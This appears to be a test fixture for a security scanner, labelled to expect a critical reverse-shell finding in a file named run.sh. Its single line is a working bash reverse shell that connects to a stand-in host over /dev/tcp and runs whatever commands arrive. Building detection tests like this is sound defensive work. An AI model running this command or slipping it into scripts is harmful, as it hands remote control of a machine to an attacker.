# expect: shell.reverse_shell critical
# path: run.sh
exec 5<>/dev/tcp/203.0.113.7/80; cat <&5 | while read l; do $l 2>&5 >&5; done
